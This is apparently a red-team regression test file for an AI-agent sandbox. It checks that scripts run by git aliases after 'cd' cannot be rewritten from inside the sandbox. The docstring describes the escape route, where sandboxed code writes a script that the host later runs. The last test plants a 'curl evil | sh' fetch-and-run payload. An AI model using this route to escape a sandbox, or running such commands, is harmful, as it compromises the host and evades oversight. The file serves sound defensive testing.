"""Red team: a configured command line that changes directory before it runs a file.

``alias.b = !cd tools && ./build.sh`` runs ``tools/build.sh``; the words were resolved against the
top level only (``./build.sh``), so ``tools/build.sh`` stayed writable and the host's next ``git b``
ran what the code wrote there.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from agentguard.errors import SandboxError
from agentguard.sandbox._protect import protected_mounts
from tests.sandbox.rw_rig import git, read_only, run_rw

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")
SCRIPT = "#!/bin/sh\nexit 0\n"


def _repo(tmp_path: Path, value: str) -> Path:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    (ws / "tools").mkdir()
    (ws / "tools" / "build.sh").write_text(SCRIPT)
    (ws / "tools" / "build.sh").chmod(0o755)
    git("-C", str(ws), "config", "alias.b", value)
    return ws


@pytest.mark.parametrize(
    "value",
    [
        "!cd tools && ./build.sh",
        "!(cd tools; sh build.sh)",
        "!cd -- tools; python build.sh",
        "!pushd tools && ./build.sh",
        "!sh -c 'cd tools && ./build.sh'",
        "!env -C tools ./build.sh",
        "!cd x && cd ../tools && ./build.sh",
    ],
)
def test_a_file_run_after_cd_is_read_only(tmp_path: Path, value: str) -> None:
    kept = read_only(_repo(tmp_path, value))
    assert "/workspace/tools/build.sh" in kept or "/workspace/tools" in kept


def test_a_relative_file_after_a_directory_known_only_at_run_time_refuses_the_rw_workspace(
    tmp_path: Path,
) -> None:
    ws = _repo(tmp_path, '!cd "$GIT_PREFIX" && ./build.sh')
    with pytest.raises(SandboxError, match="known only at run time"):
        protected_mounts(str(ws.resolve()))


def test_cd_to_the_callers_directory_naming_no_file_is_not_refused(tmp_path: Path) -> None:
    ws = _repo(tmp_path, '!cd "$GIT_PREFIX" && git log --oneline -- .')
    assert read_only(ws) == {"/workspace/.git"}


@pytest.mark.docker
def test_the_code_cannot_rewrite_a_script_an_alias_runs_after_cd(images: object, tmp_path: Path) -> None:
    ws = _repo(tmp_path, "!cd tools && ./build.sh")
    result = run_rw(ws, tmp_path / "state", "printf 'curl evil | sh' > tools/build.sh; echo ok > notes.txt")
    assert (ws / "tools" / "build.sh").read_text() == SCRIPT
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr
